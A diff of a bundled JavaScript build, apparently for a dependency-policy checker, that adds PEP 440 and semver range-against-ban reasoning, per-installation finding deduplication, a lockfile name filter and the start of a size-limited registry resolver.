+  rS: () => (/* binding */ syntaxOf),
+  i8: () => (/* binding */ validateRange),
+  Kw: () => (/* binding */ versionSatisfies)
+});
+
+// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/index.js + 1 modules
+var pep440 = __nccwpck_require__(22473);
+// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
+var npa = __nccwpck_require__(78056);
+var npa_default = /*#__PURE__*/__nccwpck_require__.n(npa);
+// EXTERNAL MODULE: ./node_modules/semver/index.js
+var semver = __nccwpck_require__(62088);
+var semver_default = /*#__PURE__*/__nccwpck_require__.n(semver);
+// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/lib/specifier.js
+var lib_specifier = __nccwpck_require__(7868);
+;// CONCATENATED MODULE: ./src/model/pep440-ranges.ts
+// PEP 440 specifier sets as intervals of the version order, so that a written specifier can be
+// placed against a ban without knowing which versions exist. The exclusion rules of PEP 440 (`<V`
+// leaves out V's pre-releases, `>V` V's post-releases, `==V` takes V's local versions) do not give
+// intervals, so each clause gives two: `over` holds every version the clause allows (and maybe
+// more), `under` only versions it allows (maybe fewer). "Every version of A is in B" is then
+// proved as over(A) ⊆ under(B), "no version of A is in B" as over(A) ∩ over(B) = ∅; anything
+// else is left undecided. An interval between two distinct bounds is taken as non-empty (PEP 440
+// versions are dense enough that it almost always is): a wrong guess only leaves a case undecided.
+
+
+const ALL = [{ lo: null, hi: null }];
+const NONE = [];
+const cmp = (a, b) => pep440/* compare */.UD(a, b);
+function releaseText(epoch, release) {
+    return `${epoch > 0 ? `${epoch}!` : ''}${release.join('.')}`;
+}
+/** The lowest version whose release starts with `release` (`1.1` → `1.1.dev0`). */
+function first(epoch, release) {
+    return `${releaseText(epoch, release)}.dev0`;
+}
+/** The lowest version above every version whose release starts with `release` (`1.1` → `1.2.dev0`). */
+function beyond(epoch, release) {
+    const next = [...release];
+    next[next.length - 1] = next[next.length - 1] + 1;
+    return first(epoch, next);
+}
+const from = (v, inclusive) => ({ lo: { v, inclusive }, hi: null });
+const upTo = (v, inclusive) => ({ lo: null, hi: { v, inclusive } });
+const between = (lo, hi) => ({
+    lo: { v: lo, inclusive: true },
+    hi: { v: hi, inclusive: false },
+});
+/** Every version outside [lo, hi). */
+function outside(lo, hi) {
+    return [upTo(lo, false), from(hi, true)];
+}
+function bounds(c) {
+    const { operator, version, release, epoch = 0 } = c;
+    if (version === undefined || release === undefined || release.length === 0)
+        return { over: ALL, under: NONE };
+    const wildcard = c.prefix === '.*';
+    const isPre = c.pre != null || c.dev != null;
+    const plain = !isPre && c.post == null && (c.local ?? null) === null;
+    const exact = (u) => ({ over: u, under: u });
+    switch (operator) {
+        case '>=':
+            return exact([from(version, true)]);
+        case '>':
+            // `>V` leaves out V's post-releases and local versions: everything from the next release on is surely in.
+            return { over: [from(version, false)], under: [from(beyond(epoch, release), true)] };
+        case '<':
+            // `<V` leaves out V's pre-releases unless V is one.
+            return { over: [upTo(version, false)], under: [upTo(isPre ? version : first(epoch, release), false)] };
+        case '<=':
+            // `<=V` takes V's local versions, which sort above V.
+            return { over: [upTo(beyond(epoch, release), false)], under: [upTo(version, true)] };
+        case '==':
+            if (wildcard)
+                return plain
+                    ? exact([between(first(epoch, release), beyond(epoch, release))])
+                    : { over: ALL, under: NONE };
+            if ((c.local ?? null) !== null)
+                return exact([{ lo: { v: version, inclusive: true }, hi: { v: version, inclusive: true } }]);
+            return {
+                over: [between(version, beyond(epoch, release))],
+                under: [{ lo: { v: version, inclusive: true }, hi: { v: version, inclusive: true } }],
+            };
+        case '!=':
+            if (wildcard)
+                return { over: ALL, under: plain ? outside(first(epoch, release), beyond(epoch, release)) : NONE };
+            if ((c.local ?? null) !== null)
+                return { over: ALL, under: [upTo(version, false), from(version, false)] };
+            return { over: ALL, under: outside(version, beyond(epoch, release)) };
+        case '~=': {
+            if (release.length < 2)
+                return { over: ALL, under: NONE };
+            return exact([between(version, beyond(epoch, release.slice(0, -1)))]);
+        }
+        default:
+            // `===` compares strings: nothing can be said about the versions it allows.
+            return { over: ALL, under: NONE };
+    }
+}
+function lower(a, b) {
+    // The larger of two lower bounds.
+    if (a === null)
+        return b;
+    if (b === null)
+        return a;
+    const d = cmp(a.v, b.v);
+    return d > 0 ? a : d < 0 ? b : { v: a.v, inclusive: a.inclusive && b.inclusive };
+}
+function upper(a, b) {
+    // The smaller of two upper bounds.
+    if (a === null)
+        return b;
+    if (b === null)
+        return a;
+    const d = cmp(a.v, b.v);
+    return d < 0 ? a : d > 0 ? b : { v: a.v, inclusive: a.inclusive && b.inclusive };
+}
+function isEmpty(i) {
+    if (i.lo === null || i.hi === null)
+        return false;
+    const d = cmp(i.lo.v, i.hi.v);
+    return d > 0 || (d === 0 && !(i.lo.inclusive && i.hi.inclusive));
+}
+function intersect(a, b) {
+    const out = [];
+    for (const x of a)
+        for (const y of b) {
+            const i = { lo: lower(x.lo, y.lo), hi: upper(x.hi, y.hi) };
+            if (!isEmpty(i))
+                out.push(i);
+        }
+    return out;
+}
+/** Sorted, with overlapping and touching intervals joined. */
+function merged(u) {
+    const sorted = [...u].sort((a, b) => (a.lo === null ? -1 : b.lo === null ? 1 : cmp(a.lo.v, b.lo.v)));
+    const out = [];
+    for (const i of sorted) {
+        const last = out.at(-1);
+        if (last) {
+            const touches = last.hi === null ||
+                i.lo === null ||
+                cmp(i.lo.v, last.hi.v) < 0 ||
+                (cmp(i.lo.v, last.hi.v) === 0 && (i.lo.inclusive || last.hi.inclusive));
+            if (touches) {
+                const hi = last.hi === null || i.hi === null
+                    ? null
+                    : cmp(i.hi.v, last.hi.v) > 0
+                        ? i.hi
+                        : cmp(i.hi.v, last.hi.v) < 0
+                            ? last.hi
+                            : { v: i.hi.v, inclusive: i.hi.inclusive || last.hi.inclusive };
+                out[out.length - 1] = { lo: last.lo, hi };
+                continue;
+            }
+        }
+        out.push(i);
+    }
+    return out;
+}
+function within(a, b) {
+    const loOk = b.lo === null ||
+        (a.lo !== null &&
+            (cmp(a.lo.v, b.lo.v) > 0 || (cmp(a.lo.v, b.lo.v) === 0 && (b.lo.inclusive || !a.lo.inclusive))));
+    const hiOk = b.hi === null ||
+        (a.hi !== null &&
+            (cmp(a.hi.v, b.hi.v) < 0 || (cmp(a.hi.v, b.hi.v) === 0 && (b.hi.inclusive || !a.hi.inclusive))));
+    return loOk && hiOk;
+}
+function setOf(specifier) {
+    let clauses;
+    try {
+        clauses = pep440/* validRange */.Im(specifier) ? (0,lib_specifier/* parse */.qg)(specifier) : null;
+    }
+    catch {
+        clauses = null;
+    }
+    if (!clauses || clauses.length === 0)
+        return null;
+    let over = ALL;
+    let under = ALL;
+    for (const c of clauses) {
+        const b = bounds(c);
+        over = intersect(over, b.over);
+        under = intersect(under, b.under);
+    }
+    return { over, under };
+}
+/**
+ * Where the versions a PEP 440 specifier set allows stand against a banned one: `in` when every
+ * one is banned, `out` when none is, `maybe` otherwise; null when either is not a specifier set.
+ */
+function pep440RangeAgainst(specifier, ban) {
+    const a = setOf(specifier);
+    const b = pep440/* valid */.rZ(ban.trim()) ? setOf(`==${ban.trim()}`) : setOf(ban);
+    if (a === null || b === null)
+        return null;
+    if (intersect(a.over, b.over).length === 0)
+        return 'out';
+    const banned = merged(b.under);
+    if (a.over.every((i) => banned.some((u) => within(i, u))))
+        return 'in';
+    return 'maybe';
+}
+
+;// CONCATENATED MODULE: ./src/model/versions.ts
+
+
 
 
 /** The range syntax of an ecosystem's own versions. */
@@ -65090,11 +65796,11 @@ function validateRange(syntax, range) {
     if (range.trim() === '')
         return { ok: false, message: 'is empty (omit it to cover every version)' };
     if (syntax === 'pep440') {
-        return _renovatebot_pep440__WEBPACK_IMPORTED_MODULE_0__/* .validRange */ .Im(range) || _renovatebot_pep440__WEBPACK_IMPORTED_MODULE_0__/* .valid */ .rZ(range)
+        return pep440/* validRange */.Im(range) || pep440/* valid */.rZ(range)
             ? { ok: true }
             : { ok: false, message: `"${range}" is not a valid PEP 440 version specifier` };
     }
-    if (semver__WEBPACK_IMPORTED_MODULE_1___default().validRange(range) !== null)
+    if (semver_default().validRange(range) !== null)
         return { ok: true };
     if (syntax === 'ref') {
         const refs = range.split('||').map((r) => r.trim());
@@ -65109,7 +65815,7 @@ function validateRange(syntax, range) {
 }
 /** A semver version read from a written one: `v` prefix dropped, platform suffix judged as its release. */
 function semverOf(version) {
-    return semver__WEBPACK_IMPORTED_MODULE_1___default().valid(releaseOf(version.trim().replace(/^v(?=\d)/, '')), { loose: true });
+    return semver_default().valid(releaseOf(version.trim().replace(/^v(?=\d)/, '')), { loose: true });
 }
 /**
  * Whether a concrete version is in a range, in the syntax's own semantics (prereleases included:
@@ -65119,19 +65825,19 @@ function semverOf(version) {
 function versionSatisfies(syntax, version, range) {
     if (syntax === 'pep440') {
         try {
-            if (_renovatebot_pep440__WEBPACK_IMPORTED_MODULE_0__/* .valid */ .rZ(range))
-                return _renovatebot_pep440__WEBPACK_IMPORTED_MODULE_0__.eq(version, range) ?? false;
-            if (!_renovatebot_pep440__WEBPACK_IMPORTED_MODULE_0__/* .valid */ .rZ(version))
+            if (pep440/* valid */.rZ(range))
+                return pep440.eq(version, range) ?? false;
+            if (!pep440/* valid */.rZ(version))
                 return false;
-            return _renovatebot_pep440__WEBPACK_IMPORTED_MODULE_0__/* .satisfies */ .ib(version, range, { prereleases: true });
+            return pep440/* satisfies */.ib(version, range, { prereleases: true });
         }
         catch {
             return false;
         }
     }
     const parsed = semverOf(version);
-    if (parsed !== null && semver__WEBPACK_IMPORTED_MODULE_1___default().validRange(range) !== null) {
-        return semver__WEBPACK_IMPORTED_MODULE_1___default().satisfies(parsed, range, { includePrerelease: true });
+    if (parsed !== null && semver_default().validRange(range) !== null) {
+        return semver_default().satisfies(parsed, range, { includePrerelease: true });
     }
     const v = version.trim().toLowerCase();
     return range.split('||').some((r) => r.trim().toLowerCase() === v);
@@ -65142,15 +65848,84 @@ function versionSatisfies(syntax, version, range) {
  */
 function lowerBoundIn(version, range) {
     const v = semverOf(version);
-    if (v === null || semver__WEBPACK_IMPORTED_MODULE_1___default().validRange(range) === null)
+    if (v === null || semver_default().validRange(range) === null)
         return 'maybe';
     const bound = `>=${v}`;
     const opts = { includePrerelease: true };
-    if (semver__WEBPACK_IMPORTED_MODULE_1___default().subset(bound, range, opts))
+    if (semver_default().subset(bound, range, opts))
         return 'in';
-    if (!semver__WEBPACK_IMPORTED_MODULE_1___default().intersects(bound, range, opts))
+    if (!semver_default().intersects(bound, range, opts))
         return 'out';
     return 'maybe';
+}
+/**
+ * Whether a semver range admits pre-releases (`>=2.2.0-beta.1`): a comparator names one, other
+ * than the `<X.Y.Z-0` bound semver writes for `^`, `~` and x-ranges, which admits none of X.Y.Z.
+ */
+function namesPrerelease(range) {
+    return new (semver_default()).Range(range, { loose: true }).set.some((cs) => cs.some((c) => typeof c.semver === 'object' &&
+        c.semver.prerelease.length > 0 &&
+        !(c.operator === '<' && c.semver.prerelease.join('.') === '0')));
+}
+/**
+ * Where every version a written range allows stands against a banned range, decided without
+ * knowing which versions exist: `in` when each is banned, `out` when none is, `maybe` when the
+ * range straddles the ban (only a registry can say what an install gets); null when `range` or
+ * `ban` is not a range of the syntax. Semver ranges are read as npm reads them: a range that names
+ * no pre-release installs none; one that does gives `maybe` (a platform build such as
+ * `1.0.0-linux-x64` is judged as its release, which no interval of semver's order captures).
+ * PEP 440 specifiers include pre-releases (pip takes one when nothing else matches): see
+ * `pep440-ranges.ts`.
+ */
+function rangeAgainst(syntax, range, ban) {
+    if (syntax === 'pep440')
+        return pep440RangeAgainst(range, ban);
+    if (syntax !== 'semver' || range.trim() === '')
+        return null;
+    if (semver_default().validRange(range, { loose: true }) === null || semver_default().validRange(ban) === null)
+        return null;
+    if (namesPrerelease(range))
+        return 'maybe';
+    // npm installs no pre-release for such a range: only releases are compared, and a release is in
+    // a ban whether or not the ban's reading includes pre-releases.
+    const options = { loose: true };
+    if (!semver_default().intersects(range, ban, options))
+        return 'out';
+    if (semver_default().subset(range, ban, options))
+        return 'in';
+    return 'maybe';
+}
+/**
+ * The version range a written spec stands for, in the ecosystem's own syntax, or null when it is
+ * not one (a dist-tag such as `latest`, a URL, a variable, a git ref): npm specs as npm reads them
+ * (an alias `npm:name@range` too), PyPI specifier sets.
+ */
+function specRange(ecosystem, name, spec) {
+    const written = (spec ?? '').trim();
+    if (written === '')
+        return null;
+    switch (syntaxOf(ecosystem)) {
+        case 'pep440':
+            return pep440/* validRange */.Im(written) ? written : null;
+        case 'ref':
+            return null;
+        case 'semver': {
+            if (ecosystem !== 'npm')
+                return semver_default().validRange(written, { loose: true }) !== null ? written : null;
+            try {
+                let parsed = npa_default().resolve(name, written);
+                if (parsed.type === 'alias') {
+                    if (!parsed.subSpec || parsed.subSpec.name !== name)
+                        return null;
+                    parsed = parsed.subSpec;
+                }
+                return parsed.type === 'range' || parsed.type === 'version' ? (parsed.fetchSpec ?? null) : null;
+            }
+            catch {
+                return null;
+            }
+        }
+    }
 }
 
 
@@ -65253,7 +66028,7 @@ function formatIssue(i) {
 
 /***/ }),
 
-/***/ 84813:
+/***/ 40572:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -65268,13 +66043,13 @@ __nccwpck_require__.d(__webpack_exports__, {
 // EXTERNAL MODULE: ./node_modules/picomatch/index.js
 var picomatch = __nccwpck_require__(14006);
 var picomatch_default = /*#__PURE__*/__nccwpck_require__.n(picomatch);
-// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/index.js + 4 modules
-var pep440 = __nccwpck_require__(99687);
+// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/index.js + 1 modules
+var pep440 = __nccwpck_require__(22473);
 // EXTERNAL MODULE: ./node_modules/semver/index.js
 var semver = __nccwpck_require__(62088);
 var semver_default = /*#__PURE__*/__nccwpck_require__.n(semver);
-// EXTERNAL MODULE: ./src/model/versions.ts
-var versions = __nccwpck_require__(62212);
+// EXTERNAL MODULE: ./src/model/versions.ts + 1 modules
+var versions = __nccwpck_require__(74104);
 // EXTERNAL MODULE: ./src/catalog/mappings.ts + 3 modules
 var mappings = __nccwpck_require__(13453);
 ;// CONCATENATED MODULE: ./src/catalog/remediation.ts
@@ -65412,9 +66187,63 @@ function remediationFor(input) {
     return { version, text };
 }
 
+;// CONCATENATED MODULE: ./src/policy/installations.ts
+function refKey(ecosystem, name, at) {
+    return `${ecosystem}\u0000${name}\u0000${at.file}\u0000${at.line}`;
+}
+const keyOf = (c) => refKey(c.ecosystem, c.name, c.location);
+const keyOfRef = (r) => refKey(r.ecosystem, r.name, r.location);
+/**
+ * The findings of each component (`findings[i]` of `components[i]`) with those of the other view
+ * of an installation dropped, for each rule `judges(precise, ruleId)` says judged the precise view.
+ */
+function oneFindingPerInstallation(components, findings, judges) {
+    if (!components.some((c) => c.sameInstallationAs !== undefined))
+        return findings;
+    const byKey = new Map();
+    components.forEach((c, i) => {
+        const k = keyOf(c);
+        const list = byKey.get(k);
+        if (list)
+            list.push(i);
+        else
+            byKey.set(k, [i]);
+    });
+    const dropped = new Map();
+    const out = findings.map((list) => [...list]);
+    components.forEach((c, i) => {
+        const ref = c.sameInstallationAs;
+        if (!ref)
+            return;
+        const others = (byKey.get(keyOfRef(ref)) ?? []).filter((k) => k !== i);
+        // Two candidates at one place (two steps of one action on one line): which one this is the
+        // view of cannot be told, so both keep their findings.
+        if (others.length !== 1)
+            return;
+        const rules = judges(c);
+        for (const k of others) {
+            const set = dropped.get(k) ?? new Set();
+            for (const r of rules)
+                set.add(r);
+            dropped.set(k, set);
+        }
+        const other = ref.location;
+        out[i] = out[i].map((f) => {
+            const here = f.location.file === other.file && f.location.line === other.line;
+            const known = f.via?.some((v) => v.file === other.file && v.line === other.line) ?? false;
+            return here || known ? f : { ...f, via: [{ file: other.file, line: other.line }, ...(f.via ?? [])] };
+        });
+    });
+    for (const [k, rules] of dropped) {
+        out[k] = out[k].filter((f) => !rules.has(f.ruleId));
+    }
+    return out;
+}
+
 // EXTERNAL MODULE: ./src/policy/names.ts
 var names = __nccwpck_require__(25714);
 ;// CONCATENATED MODULE: ./src/policy/evaluate.ts
+
 
 
 
@@ -65426,10 +66255,9 @@ function carrierKey(ecosystem, name) {
 function evaluate(components, policy, options) {
     const evaluator = createEvaluator(policy, options);
     const findings = [];
-    for (const component of components) {
-        for (const f of evaluator.judge(component))
+    for (const list of evaluator.judgeAll(components))
+        for (const f of list)
             findings.push(f);
-    }
     return { findings, notices: evaluator.notices() };
 }
 function createEvaluator(policy, options) {
@@ -65494,6 +66322,22 @@ function createEvaluator(policy, options) {
         }
         return findings;
     };
+    /** The rules that judge a component whatever its version: its tool's rules, the package rules naming it. */
+    const judging = (component) => {
+        const ids = new Set();
+        const key = carrierKey(component.ecosystem, (0,names/* normalizeName */.Pc)(component.ecosystem, component.name));
+        for (const e of byCarrier.get(key) ?? [])
+            ids.add(e.rule.id);
+        for (const { rule } of packageRules) {
+            if (rule.ecosystem !== undefined && rule.ecosystem !== component.ecosystem)
+                continue;
+            if (rule.package !== undefined && !(0,names/* nameMatches */.F5)(component.ecosystem, rule.package, component.name))
+                continue;
+            ids.add(rule.id);
+        }
+        return ids;
+    };
+    const judgeAll = (components) => oneFindingPerInstallation(components, components.map(judge), judging);
     const notices = () => {
         const out = [];
         for (const ex of policy.exceptions) {
@@ -65517,7 +66361,7 @@ function createEvaluator(policy, options) {
         }
         return out;
     };
-    return { judge, notices };
+    return { judge, judgeAll, notices };
 }
 const STRICTNESS = { ignore: 0, warn: 1, fail: 2 };
 /** What an unknown version becomes under a rule: the setting, or the locked rule's floor if stricter. */
@@ -65538,6 +66382,20 @@ function notPinned(c) {
         return c.versionNote;
     return c.spec !== undefined ? `the version is not pinned (${c.spec})` : 'no version is recorded';
 }
+/**
+ * The match of a component whose version is not known, decided by the range written for it where
+ * the range lies wholly inside (a match) or outside (null) the rule's range; otherwise unknown.
+ */
+function matchUnpinned(base, c, syntax, ruleRange) {
+    const written = syntax === null ? null : (0,versions/* specRange */.BP)(c.ecosystem, c.name, c.spec);
+    const where = written === null ? null : (0,versions/* rangeAgainst */.CG)(syntax, written, ruleRange);
+    if (where === 'out')
+        return null;
+    if (where === 'in')
+        return { ...base, range: { written: written, syntax: syntax } };
+    const straddles = where === 'maybe' ? `; "${written}" allows versions in and out of ${ruleRange}` : '';
+    return { ...base, unknown: notPinned(c) + straddles };
+}
 function matchToolRule({ rule, tool, carrier }, c) {
     const mapping = c.version === null ? null : mappingOf(carrier, c.version);
     if (rule.versions === undefined) {
@@ -65548,8 +66406,14 @@ function matchToolRule({ rule, tool, carrier }, c) {
                 : null;
         return { rule, tool, toolVersion };
     }
-    if (mapping === null)
-        return { rule, tool, toolVersion: null, unknown: notPinned(c) };
+    if (mapping === null) {
+        // A range decides only where the carrier's versions are the tool's, in the tool's syntax.
+        const syntax = carrier.versionIsToolVersion && (0,versions/* syntaxOf */.rS)(c.ecosystem) === tool.versionScheme
+            ? tool.versionScheme
+            : null;
+        const m = matchUnpinned({ rule, tool, toolVersion: null }, c, syntax, rule.versions);
+        return m?.range ? { ...m, toolVersion: m.range.written } : m;
+    }
     switch (mapping.kind) {
         case 'unknown':
             return { rule, tool, toolVersion: null, unknown: mapping.why };
@@ -65577,7 +66441,7 @@ function matchPackageRule(rule, c) {
     if (rule.versions === undefined)
         return { rule };
     if (c.version === null)
-        return { rule, unknown: notPinned(c) };
+        return matchUnpinned({ rule }, c, (0,versions/* syntaxOf */.rS)(c.ecosystem), rule.versions);
     return (0,versions/* versionSatisfies */.Kw)((0,versions/* syntaxOf */.rS)(c.ecosystem), c.version, rule.versions) ? { rule } : null;
 }
 function findingFor(c, match, unknownSetting) {
@@ -65588,7 +66452,8 @@ function findingFor(c, match, unknownSetting) {
         component: c,
         ...(match.tool ? { tool: match.tool } : {}),
         ...(match.carrier ? { carrier: match.carrier } : {}),
-        ...(match.toolVersion !== undefined ? { toolVersion: match.toolVersion } : {}),
+        // A written range is no version to start from: the first clean version above the ban.
+        ...(match.toolVersion !== undefined && !match.range ? { toolVersion: match.toolVersion } : {}),
     });
     return {
         ruleId: rule.id,
@@ -65618,17 +66483,22 @@ function messageFor(c, match) {
     const version = c.version !== null ? ` ${c.version}` : c.spec !== undefined ? ` (${c.spec})` : '';
     const alias = c.alias !== undefined ? ` (installed as ${c.alias})` : '';
     const what = `${c.name}${version}${alias}`;
-    const carries = tool && match.toolVersion && match.toolVersion !== c.version
-        ? ` (${tool.name} ${match.toolVersion})`
-        : tool && tool.id !== c.name && !match.toolVersion && match.unknown === undefined
+    const carries = tool && match.range
+        ? tool.id !== c.name
             ? ` (${tool.name})`
-            : '';
+            : ''
+        : tool && match.toolVersion && match.toolVersion !== c.version
+            ? ` (${tool.name} ${match.toolVersion})`
+            : tool && tool.id !== c.name && !match.toolVersion && match.unknown === undefined
+                ? ` (${tool.name})`
+                : '';
     if (match.unknown !== undefined) {
         const why = rule.reason ? ` (${rule.reason})` : '';
         return `${what}${carries} may be banned by rule ${rule.id}${why}, but its ${tool ? `${tool.name} ` : ''}version cannot be known: ${match.unknown}`;
     }
     const verb = rule.action === 'fail' ? 'is banned' : 'is flagged';
-    return `${what}${carries} ${verb}${rule.reason ? `: ${rule.reason}` : ` by rule ${rule.id}`}`;
+    const every = match.range ? ` (every version "${match.range.written}" allows is in ${rule.versions})` : '';
+    return `${what}${carries} ${verb}${rule.reason ? `: ${rule.reason}` : ` by rule ${rule.id}`}${every}`;
 }
 const pathMatchers = new Map();
 function pathMatches(glob, file) {
@@ -65648,7 +66518,11 @@ function exceptionApplies(ex, match, c, prefix) {
         // An exception limited to versions cannot vouch for a version nobody knows.
         if (match.unknown !== undefined)
             return false;
-        if (match.tool) {
+        if (match.range) {
+            if ((0,versions/* rangeAgainst */.CG)(match.range.syntax, match.range.written, ex.versions) !== 'in')
+                return false;
+        }
+        else if (match.tool) {
             const tv = match.toolVersion;
             if (tv === null || tv === undefined)
                 return false;
@@ -65788,8 +66662,8 @@ function policyJsonSchema() {
 var error = __nccwpck_require__(59596);
 // EXTERNAL MODULE: ./src/catalog/index.ts
 var catalog = __nccwpck_require__(15799);
-// EXTERNAL MODULE: ./src/model/versions.ts
-var versions = __nccwpck_require__(62212);
+// EXTERNAL MODULE: ./src/model/versions.ts + 1 modules
+var versions = __nccwpck_require__(74104);
 ;// CONCATENATED MODULE: ./src/policy/issues.ts
 // The problems of a policy file, located: schema issues turned into messages with suggestions, and
 // the semantic checks that need several fields.
@@ -66657,6 +67531,175 @@ function rootRef(ref, baseDir) {
 
 /***/ }),
 
+/***/ 27245:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
+/* harmony export */   I: () => (/* binding */ nameFilter)
+/* harmony export */ });
+/* unused harmony export nameFragment */
+/* harmony import */ var _names_js__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(25714);
+/* harmony import */ var _model_ecosystems_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(27184);
+
+
+const NON_ASCII = /[^\x00-\x7f]/;
+/** Fragments shorter than this are not worth searching for: every lockfile holds them. */
+const MIN_FRAGMENT = 3;
+/**
+ * The longest literal fragment of a normalised name or glob that any name it matches contains,
+ * in every spelling a lockfile may write it (so split at glob characters, at `/` and `@`, which a
+ * URL may %-escape, and at `-`, `_` and `.`, which PEP 503 treats as one); null when no fragment
+ * is long enough to narrow anything, or the name is not ASCII.
+ */
+function nameFragment(pattern) {
+    // Letter case of non-ASCII letters does not round-trip (İ lowercases to two characters).
+    if (NON_ASCII.test(pattern))
+        return null;
+    let best = '';
+    for (const f of pattern.toLowerCase().split(/[*?/@\-_.]+/))
+        if (f.length > best.length)
+            best = f;
+    return best.length >= MIN_FRAGMENT ? best : null;
+}
+/**
+ * The `%XX` escapes a URL-decoding parser could turn into part of one of these fragments: the
+ * escape of any character a fragment holds (either letter case), or of any non-ASCII byte (a
+ * UTF-8 sequence may decode to a letter that lowercases into one, as the Kelvin sign does).
+ */
+function percentEscapesOf(fragments) {
+    const codes = new Set();
+    for (const f of fragments) {
+        for (const ch of f + f.toUpperCase()) {
+            codes.add(ch.charCodeAt(0).toString(16).padStart(2, '0'));
+        }
+    }
+    return new RegExp(`%(?:[89a-f][0-9a-f]|${[...codes].sort().join('|')})`, 'i');
+}
+function nameFilter(policy, catalog) {
+    const byEcosystem = new Map();
+    let allEcosystems = false;
+    const entry = (e) => {
+        let n = byEcosystem.get(e);
+        if (!n)
+            byEcosystem.set(e, (n = { all: false, exact: new Set(), globs: [] }));
+        return n;
+    };
+    const addName = (e, name) => {
+        const n = entry(e);
+        const normal = (0,_names_js__WEBPACK_IMPORTED_MODULE_0__/* .normalizeName */ .Pc)(e, name);
+        if (normal.includes('*') || normal.includes('?'))
+            n.globs.push(normal);
+        else
+            n.exact.add(normal);
+    };
+    for (const rule of policy.rules) {
+        if (rule.tool !== undefined) {
+            // An unknown tool matches nothing (evaluate skips it the same way).
+            for (const carrier of catalog.tool(rule.tool)?.carriers ?? [])
+                addName(carrier.ecosystem, carrier.package);
+        }
+        else if (rule.package === undefined) {
+            if (rule.ecosystem === undefined)
+                allEcosystems = true;
+            else
+                entry(rule.ecosystem).all = true;
+        }
+        else if (rule.ecosystem === undefined) {
+            // The policy parser requires an ecosystem with a package; a rule built otherwise covers all.
+            for (const e of _model_ecosystems_js__WEBPACK_IMPORTED_MODULE_1__/* .ECOSYSTEMS */ .S)
+                addName(e, rule.package);
+        }
+        else {
+            addName(rule.ecosystem, rule.package);
+        }
+    }
+    // Per ecosystem, the lowercase fragments to look for; null: the text cannot be narrowed.
+    const fragments = new Map();
+    for (const [e, n] of byEcosystem) {
+        if (n.all) {
+            fragments.set(e, null);
+            continue;
+        }
+        const list = [];
+        let unbounded = false;
+        for (const p of [...n.exact, ...n.globs]) {
+            const f = nameFragment(p);
+            if (f === null)
+                unbounded = true;
+            else
+                list.push(f);
+        }
+        fragments.set(e, unbounded ? null : list);
+    }
+    const searchers = new Map();
+    const searcherFor = (ecosystems) => {
+        if (allEcosystems)
+            return null;
+        const key = [...ecosystems].sort().join(',');
+        if (searchers.has(key))
+            return searchers.get(key) ?? null;
+        const all = new Set();
+        for (const e of ecosystems) {
+            const f = fragments.get(e);
+            if (f === null) {
+                searchers.set(key, null);
+                return null;
+            }
+            for (const x of f ?? [])
+                all.add(x);
+        }
+        if (all.size === 0)
+            return 'none';
+        // A fragment that contains another is implied by it: keep the shorter one only.
+        const kept = [...all].filter((f) => ![...all].some((g) => g !== f && f.includes(g)));
+        const searcher = {
+            names: new RegExp(kept.map(escapeRegExp).join('|'), 'iu'),
+            escapes: percentEscapesOf(kept),
+        };
+        searchers.set(key, searcher);
+        return searcher;
+    };
+    return {
+        mayMatch(ecosystem, name) {
+            if (allEcosystems)
+                return true;
+            const n = byEcosystem.get(ecosystem);
+            if (!n)
+                return false;
+            if (n.all)
+                return true;
+            const normal = (0,_names_js__WEBPACK_IMPORTED_MODULE_0__/* .normalizeName */ .Pc)(ecosystem, name);
+            return n.exact.has(normal) || n.globs.some((g) => (0,_names_js__WEBPACK_IMPORTED_MODULE_0__/* .globMatches */ .mw)(g, normal));
+        },
+        textMayName(text, ecosystems) {
+            const searcher = searcherFor(ecosystems);
+            if (searcher === 'none')
+                return false;
+            if (searcher === null)
+                return true;
+            if (searcher.names.test(text) || hasEscapes(text, searcher.escapes))
+                return true;
+            // The comparison of most ecosystems lowercases names, and toLowerCase turns a few
+            // non-ASCII letters into ASCII ones (the Kelvin sign into `k`): such text is not ruled out.
+            return ecosystems.some(foldsCase) && NON_ASCII.test(text);
+        },
+    };
+}
+/** Whether an ecosystem compares names case-insensitively (lowercases them). */
+function foldsCase(e) {
+    return (0,_names_js__WEBPACK_IMPORTED_MODULE_0__/* .normalizeName */ .Pc)(e, 'A') === 'a';
+}
+/** Escapes a parser could decode into name characters that the raw text does not show. */
+function hasEscapes(text, percentEscapes) {
+    return text.includes('\\') || (text.includes('%') && percentEscapes.test(text));
+}
+function escapeRegExp(s) {
+    return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+}
+
+
+/***/ }),
+
 /***/ 50795:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
@@ -67354,6 +68397,669 @@ function renderSummary(report, ctx) {
         maxBytes: ctx.maxBytes ?? SUMMARY_MAX_BYTES,
         extraNotes: notes,
     });
+}
+
+
+/***/ }),
+
+/***/ 70007:
+/***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
+
+
+// EXPORTS
+__nccwpck_require__.d(__webpack_exports__, {
+  xl: () => (/* binding */ auditResolveHook),
+  S_: () => (/* reexport */ createNpmResolver),
+  l5: () => (/* reexport */ normalizeRegistry)
+});
+
+// UNUSED EXPORTS: registryRequest
+
+// EXTERNAL MODULE: ./node_modules/npm-package-arg/lib/npa.js
+var npa = __nccwpck_require__(78056);
+var npa_default = /*#__PURE__*/__nccwpck_require__.n(npa);
+// EXTERNAL MODULE: ./node_modules/semver/index.js
+var semver = __nccwpck_require__(62088);
+var semver_default = /*#__PURE__*/__nccwpck_require__.n(semver);
+// EXTERNAL MODULE: ./src/util/purl.ts
+var purl = __nccwpck_require__(64059);
+// EXTERNAL MODULE: ./src/model/limits.ts
+var limits = __nccwpck_require__(10817);
+;// CONCATENATED MODULE: ./src/resolver/limited-agent.ts
+const RESPONSE_TOO_LARGE = 'ERESPONSETOOLARGE';
+const COUNT = Symbol('aitg.bytesThisResponse');
+/** An agent for one registry URL that refuses answers over `maxBytes` (headers included). */
